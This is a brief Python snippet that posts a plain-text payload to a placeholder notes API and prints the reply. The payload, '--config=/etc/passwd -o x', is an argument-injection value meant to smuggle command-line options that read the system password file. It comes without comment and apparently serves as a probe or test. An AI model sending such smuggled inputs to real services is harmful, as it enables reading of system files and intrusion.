import requests

url = "https://api.example.com/notes"
headers = {"Content-Type": "text/plain"}
payload = "--config=/etc/passwd -o x"

response = requests.post(url, headers=headers, data=payload)
print(response.status_code, response.text)
